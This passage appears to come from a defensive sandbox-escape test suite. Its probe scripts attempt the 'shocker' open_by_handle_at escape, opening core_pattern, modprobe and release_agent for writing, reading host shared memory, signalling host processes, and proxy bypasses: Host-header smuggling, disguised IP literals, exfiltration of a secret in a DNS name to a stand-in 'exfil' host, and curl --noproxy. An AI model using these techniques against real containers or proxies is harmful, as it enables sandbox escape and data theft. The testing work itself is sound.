        subprocess.run([setcap, "cap_sys_admin,cap_net_raw,cap_dac_override+ep", capable],
                       check=True, timeout=30)
        binaries.append("file-caps")
    result = ctx.probe(ws, PRIVILEGE_PROBE, {"binaries": binaries})
    ctx.require_blocked(result, "privileges")


HANDLE_PROBE = r'''
class FileHandle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]
handle, mount_id = FileHandle(), ctypes.c_int()
handle.size = 128
if libc.name_to_handle_at(-100, b"/workspace", ctypes.byref(handle), ctypes.byref(mount_id), 0):
    say("BLOCKED name_to_handle_at -", errno.errorcode.get(ctypes.get_errno()))
else:
    anchor = os.open("/workspace", os.O_RDONLY)
    def reopen():
        fd = libc.open_by_handle_at(anchor, ctypes.byref(handle), os.O_RDONLY)
        if fd < 0:
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))
        return os.listdir(fd)[:5]
    attempt("open_by_handle_at (the 'shocker' escape)", reopen)
    # ext4's root directory is inode 2, generation 0: the classic guess for the host's root.
    handle.kind = 1
    struct.pack_into("<II", handle.bytes, 0, 2, 0)
    handle.size = 8
    attempt("open_by_handle_at on the file system's root inode", reopen)
'''


@attack("open_by_handle", "open files by handle, bypassing the mount tree (the 'shocker' "
        "container escape)", "no CAP_DAC_READ_SEARCH; later seccomp on open_by_handle_at")
def open_by_handle(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, HANDLE_PROBE)
    ctx.require_blocked(result, "open_by_handle_at")


PROC_SYS_PROBE = r'''
# Open for writing only: no byte is ever written, so nothing changes even if this worked.
for path in ARGS["paths"]:
    def open_for_writing(path=path):
        os.close(os.open(path, os.O_WRONLY))
        return "opened for writing"
    attempt("open " + path + " for writing", open_for_writing)
'''


@attack("proc_sys_writes", "open kernel settings for writing: core_pattern and modprobe "
        "(run as root on the host), sysrq-trigger, drop_caches, hostname",
        "/proc/sys bound read-only (bwrap covers only sysrq-trigger here) and a sandbox user "
        "that is not host root: sysctl writes are checked by uid, not by capability")
def proc_sys_writes(ctx):
    watched = ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
               "/proc/sys/kernel/hostname"]
    before = {p: open(p).read() for p in watched if os.path.exists(p)}
    paths = watched + ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
                       "/proc/sys/kernel/panic", "/proc/sys/fs/binfmt_misc/register"]
    ws = ctx.workspace()
    result = ctx.probe(ws, PROC_SYS_PROBE, {"paths": paths})
    ctx.require_blocked(result, "/proc/sys")
    for path, text in before.items():
        if open(path).read() != text:
            raise Escaped(f"{path} changed on the host")


SYS_PROBE = r'''
for path in ["/sys/class/dmi/id/product_uuid", "/sys/class/dmi/id/product_serial",
             "/sys/firmware/dmi/tables/DMI", "/sys/kernel/security/lsm",
             "/sys/fs/cgroup/pids/tandem"]:
    attempt("read " + path, lambda: read_text(path, 64) if os.path.isfile(path)
            else os.listdir(path))
group = [l.split(":", 2)[2] for l in read_text("/proc/self/cgroup").splitlines()
         if ":pids:" in l]
say("CGROUP", group)
# Inside a cgroup namespace the group reads "/"; the host's name for it is under tandem/.
import glob
groups = ["/sys/fs/cgroup/pids" + g.rstrip("/") for g in group]
groups += glob.glob("/sys/fs/cgroup/pids/tandem/*")
targets = [g + "/pids.max" for g in groups] + [g + "/cgroup.procs" for g in groups]
targets += ["/sys/fs/cgroup/pids/release_agent", "/sys/fs/cgroup/memory/release_agent",
            "/sys/kernel/uevent_helper"]
for path in targets:
    def open_for_writing(path=path):
        os.close(os.open(path, os.O_WRONLY))  # nothing is written
        return "opened for writing"
    attempt("open " + path + " for writing", open_for_writing)
'''


@attack("sysfs_and_cgroups", "read machine secrets in /sys (DMI serials, firmware) and reach "
        "the cgroup files: raise its own pids.max, move out of its group, release_agent",
        "no /sys inside; the pids cgroup managed from the host only")
def sysfs_and_cgroups(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, SYS_PROBE)
    ctx.require_blocked(result, "/sys and cgroups")


IPC_PROBE = r'''
def shared_files():
    names = [n for n in os.listdir("/dev/shm") if n.startswith("tandem-canary")]
    if not names:
        raise FileNotFoundError("no host segment in /dev/shm")
    return read_text("/dev/shm/" + names[0])
attempt("read the host's POSIX shared memory", shared_files)
def sysv():
    lines = read_text("/proc/sysvipc/shm", 65536).splitlines()[1:]
    if not lines:
        raise FileNotFoundError("no System V segment visible")
    libc.shmat.restype = ctypes.c_void_p
    for line in lines:
        shmid = int(line.split()[1])
        address = libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat refused")
        return ctypes.string_at(address, 64)
attempt("attach the host's System V shared memory", sysv)
'''


@attack("ipc_shared_memory", "read the host's shared memory: a POSIX segment in /dev/shm and "
        "a System V segment", "--unshare-ipc and a private /dev")
def ipc_shared_memory(ctx):
    posix = f"/dev/shm/tandem-canary-{ctx.digits}"
    with open(posix, "w") as f:
        f.write(f"shared {ctx.secret}\n")
    ctx.on_cleanup(lambda: os.unlink(posix))
    libc.shmget.restype = ctypes.c_int
    shmid = libc.shmget(0x7A000000 + int(ctx.digits) % 0xFFFF, 4096, 0o1000 | 0o600)
    if shmid < 0:
        raise Broken("cannot create a System V segment")
    ctx.on_cleanup(lambda: libc.shmctl(shmid, 0, None))  # IPC_RMID
    libc.shmat.restype = ctypes.c_void_p
    address = libc.shmat(shmid, None, 0)
    payload = f"sysv {ctx.secret}\0".encode()
    ctypes.memmove(address, payload, len(payload))
    libc.shmdt(ctypes.c_void_p(address))
    ws = ctx.workspace()
    result = ctx.probe(ws, IPC_PROBE)
    ctx.require_blocked(result, "shared memory")


KILL_PROBE = r'''
host = ARGS["pid"]
attempt(f"see host pid {host}", lambda: os.kill(host, 0) or "it exists")
attempt(f"SIGTERM host pid {host}", lambda: os.kill(host, 15) or "signalled")
attempt(f"SIGKILL host pid {host}", lambda: os.kill(host, 9) or "signalled")
attempt(f"getpgid of host pid {host}", lambda: os.getpgid(host))
# Never kill(-1): were the pid namespace gone, it would reach every process of the same uid.
'''


@attack("signal_host_process", "signal a process of the host (by its pid) from inside",
        "--unshare-pid")
def signal_host_process(ctx):
    victim = ctx.start_host_process(["sleep", "60"])
    ws = ctx.workspace()
    result = ctx.probe(ws, KILL_PROBE, {"pid": victim.pid})
    if victim.poll() is not None:
        raise Escaped(f"the host process {victim.pid} was killed from the sandbox")
    ctx.require_blocked(result, "signals")


# =============================================================================================
# The network allowlist's proxy (issue 3, item 3). Each attack first checks that the allowed
# host works through the proxy: a proxy that lets nothing through proves nothing.

PROXY_PRELUDE = r'''
ALLOWED, DENIED, TCP, TCP6 = ARGS["allowed"], ARGS["denied"], ARGS["tcp"], ARGS["tcp6"]

def proxy_endpoint():
    for name in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy"):
        url = os.environ.get(name)
        if url:
            rest = url.split("://", 1)[-1].rstrip("/")
            host, _, port = rest.rpartition(":")
            return host.strip("[]"), int(port)
    return None

def exchange(raw, tunnel_request=None):
    """Sends `raw` to the proxy; returns its status and, after a CONNECT it accepted, what came
    back through the tunnel for `tunnel_request`."""
    with socket.create_connection(PROXY, timeout=5) as s:
        s.sendall(raw.encode("latin-1"))
        head = b""
        while b"\r\n\r\n" not in head and len(head) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            head += chunk
        words = head.split(b"\r\n", 1)[0].split()
        status = int(words[1]) if len(words) > 1 and words[1].isdigit() else 0
        if 200 <= status < 300 and tunnel_request:
            s.sendall(tunnel_request.encode("latin-1"))
            try:
                return status, s.recv(4096)
            except socket.timeout:
                return status, b""
        return status, head

def refused(what, raw, tunnel_request=None):
    """A request the proxy must refuse; any 2xx answer is a way through."""
    try:
        status, body = exchange(raw, tunnel_request)
    except OSError as e:
        say("BLOCKED", what, "-", type(e).__name__, e)
        return
    if 200 <= status < 300:
        say("ESCAPED", what, "- the proxy answered", status, body[:120])
    else:
        say("BLOCKED", what, "- the proxy answered", status)

def get(target, host, path):
    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"

def tunnelled(path):
    return f"GET /{path}-{MARK} HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n"

PROXY = proxy_endpoint()
if PROXY is None:
    say("NO_PROXY_INSIDE")
else:
    try:
        status, _ = exchange(get(f"http://{ALLOWED}/control-{MARK}", ALLOWED, "control"))
    except OSError as e:
        status = str(e)
    say("CONTROL", status)
'''


def proxy_attack(ctx, body, what, args=None, legitimate=()):
    """Runs a proxy attack with the allowed host in the policy, after checking that the allowed
    host is reachable; judges the stand-in's log: only the control request, and requests whose
    path carries one of the `legitimate` words, may reach it."""
    allow = ctx.allowed_hosts()
    config = ctx.policy(allow=allow)
    everything = dict(args or {}, allowed=allow[0], denied=f"exfil-{ctx.mark}.test",
                      tcp=ctx.tcp4.port, tcp6=ctx.tcp6.port)
    ws = ctx.workspace()
    body = PROXY_PRELUDE + "if PROXY is not None:\n" + \
        "\n".join("    " + line for line in body.strip("\n").splitlines()) + "\n"
    result = ctx.probe(ws, body, everything, config=config)
    if "NO_PROXY_INSIDE" in result.stdout:
        raise Unmet(f"the policy allows {allow[0]}, but the sandbox has no HTTP_PROXY: the "
                    "network allowlist is not in effect, so the proxy cannot be attacked")
    requests = ctx.http.snapshot()
    control = [r for r in requests if r["path"].endswith(f"control-{ctx.mark}")]
    if not control or "CONTROL 200" not in result.stdout:
        raise Unmet(f"the allowed host {allow[0]} is not reachable through the proxy, so "
                    f"refusals prove nothing:\n{result.describe()}")
    ctx.require_blocked(result, what)
    others = [r for r in requests if r not in control
              and not any(f"/{word}-{ctx.mark}" in r["path"] for word in legitimate)]
    if others:
        raise Escaped(f"{what}: the allowed host's server received requests it must not:\n  "
                      + "\n  ".join(str(r) for r in others))
    ctx.require_silent(ctx.tcp4, ctx.tcp6)
    return result


@attack("proxy_plain_http", "plain HTTP through the proxy to a denied name and to an unlisted "
        "address, absolute and origin form (the sandbox-runtime bypass)",
        "the proxy checks plain HTTP against the allowlist, not only CONNECT")
def proxy_plain_http(ctx):
    proxy_attack(ctx, r'''
refused("GET a denied name", get(f"http://{DENIED}/p", DENIED, "p"))
refused("POST to a denied name",
        f"POST http://{DENIED}/p HTTP/1.1\r\nHost: {DENIED}\r\nContent-Length: 4\r\n\r\nleak")
refused("GET an unlisted address", get(f"http://127.0.0.1:{TCP}/p", f"127.0.0.1:{TCP}", "p"))
refused("GET in origin form to an unlisted address", get("/p", f"127.0.0.1:{TCP}", "p"))
refused("GET ftp:// through the proxy", get(f"ftp://127.0.0.1:{TCP}/p", f"127.0.0.1:{TCP}", "p"))
''', "plain HTTP")


@attack("proxy_host_header", "mismatch the request target and the Host header, send two Host "
        "headers, hide an address in userinfo, smuggle a second request on a kept-alive "
        "connection", "the proxy checks every request's target and Host header, and they must "
        "agree")
def proxy_host_header(ctx):
    proxy_attack(ctx, r'''
refused("allowed target, denied Host header", get(f"http://{ALLOWED}/mismatch-{MARK}", DENIED, ""))
refused("unlisted target, allowed Host header", get(f"http://127.0.0.1:{TCP}/m", ALLOWED, ""))
refused("two Host headers", f"GET http://{ALLOWED}/mismatch-{MARK} HTTP/1.1\r\nHost: {ALLOWED}\r\n"
        f"Host: 127.0.0.1:{TCP}\r\nConnection: close\r\n\r\n")
refused("userinfo naming the allowed host",
        get(f"http://{ALLOWED}@127.0.0.1:{TCP}/m", f"{ALLOWED}@127.0.0.1:{TCP}", ""))
# Two requests in one write: the first is allowed, the second must be judged on its own.
smuggle = (f"GET http://{ALLOWED}/first-{MARK} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"
           f"GET http://127.0.0.1:{TCP}/smuggled-{MARK} HTTP/1.1\r\nHost: 127.0.0.1:{TCP}\r\n"
           f"Connection: close\r\n\r\n")
try:
    with socket.create_connection(PROXY, timeout=3) as s:
        s.sendall(smuggle.encode())
        time.sleep(1.0)
    say("BLOCKED pipelined request sent; the host's listeners judge it")
except OSError as e:
    say("BLOCKED pipelined request -", e)
''', "Host header", legitimate=("first",))


@attack("proxy_connect_denied", "CONNECT to denied names (with a secret in the name, so that "
        "even a lookup leaks it, case 21) and to the allowed name on an unlisted port",
        "the proxy refuses before resolving anything")
def proxy_connect_denied(ctx):
    label = binascii.hexlify(f"TOKEN=CANARYDNS{ctx.digits}".encode()).decode()
    host = ctx.allowed_hosts()[0].split(":")[0]
    proxy_attack(ctx, r'''
refused("CONNECT a denied name", f"CONNECT {DENIED}:443 HTTP/1.1\r\nHost: {DENIED}:443\r\n\r\n")
refused("CONNECT a name carrying a secret",
        f"CONNECT {ARGS['label']}.exfil.test:443 HTTP/1.1\r\nHost: x\r\n\r\n")
refused("CONNECT the allowed name on an unlisted port",
        f"CONNECT {ARGS['host']}:{TCP} HTTP/1.1\r\nHost: {ARGS['host']}:{TCP}\r\n\r\n",
        tunnelled("port"))
refused("CONNECT localhost", f"CONNECT localhost:{TCP} HTTP/1.1\r\nHost: x\r\n\r\n",
        tunnelled("localhost"))
''', "CONNECT to denied hosts", {"label": label, "host": host})
    leaked = [n for n in ctx.dns.names() if n and label in n]
    if leaked:
        raise Escaped(f"the proxy looked up a denied name carrying the secret: {leaked[0]}")


@attack("proxy_ip_literals", "CONNECT to unlisted IP literals, including disguised forms "
        "(decimal, hex, octal, short, IPv4-mapped IPv6) and the allowed host's own address",
        "the proxy refuses IP literals that are not listed and never matches a name by "
        "resolving it")
def proxy_ip_literals(ctx):
    listed_by_name = ctx.allowed_hosts()[0] == ALLOWED_HOST
    proxy_attack(ctx, r'''
for target in [f"127.0.0.1:{TCP}", f"[::1]:{TCP6}", f"2130706433:{TCP}", f"0x7f000001:{TCP}",
               f"127.1:{TCP}", f"0177.0.0.1:{TCP}", f"[::ffff:127.0.0.1]:{TCP}",
               f"127.0.0.1.nip.io:{TCP}"]:
    refused("CONNECT " + target, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n",
            tunnelled("literal"))
if ARGS["by_name"]:
    refused("CONNECT the allowed host's address, which is not listed",
            "CONNECT 127.0.0.1:80 HTTP/1.1\r\nHost: 127.0.0.1:80\r\n\r\n", tunnelled("address"))
    refused("GET the allowed host's address, which is not listed",
            get(f"http://127.0.0.1/address-{MARK}", "127.0.0.1", ""))
''', "IP literals", {"by_name": listed_by_name})


@attack("proxy_name_confusion", "names that contain the allowed one: suffixes and prefixes, "
        "userinfo, NUL and whitespace, a port inside the name",
        "the allowlist compares normalised names exactly (no substring or prefix match)")
def proxy_name_confusion(ctx):
    proxy_attack(ctx, r'''
name = ALLOWED.split(":")[0]
for target in [f"{name}.{DENIED}:443", f"{DENIED}.{name}:443", f"evil{name}:443",
               f"{name}:443@{DENIED}:443", f"{name}%00.{DENIED}:443", f"{name}\t.{DENIED}:443",
               f"{name}:80:{TCP}", f"{DENIED}#{name}:443", f"{name}..:443"]:
    shown = target.replace("\t", "\\t")
    refused("CONNECT " + shown, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n",
            tunnelled("confused"))
''', "name confusion")


@attack("proxy_direct_bypass", "skip the proxy: NO_PROXY=*, curl --noproxy, direct sockets to "
        "the allowed host's address", "no route out but the proxy, whatever the environment")
def proxy_direct_bypass(ctx):
    proxy_attack(ctx, r'''
import urllib.request
host = ALLOWED.split(":")[0]
port = int(ALLOWED.split(":")[1]) if ":" in ALLOWED else 80
os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
def direct(address):
    with socket.create_connection((address, port), timeout=3) as s:
        s.sendall(get(f"/direct-{MARK}", ALLOWED, "").encode())
        return s.recv(64)
attempt("connect directly to the allowed host", lambda: direct(host))
attempt("connect directly to 127.0.0.1", lambda: direct("127.0.0.1"))
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
attempt("urllib with NO_PROXY=*", lambda: opener.open(f"http://{ALLOWED}/direct-{MARK}",
                                                     timeout=3).status)
def curl():
    done = subprocess.run(["curl", "-sS", "-m", "3", "--noproxy", "*",
                           f"http://{ALLOWED}/direct-{MARK}"], capture_output=True, text=True)
    if done.returncode != 0:
        raise OSError(done.stderr.strip()[:100])
    return done.stdout[:60]
if os.path.exists("/usr/bin/curl"):
    attempt("curl --noproxy '*'", curl)
''', "proxy bypass")
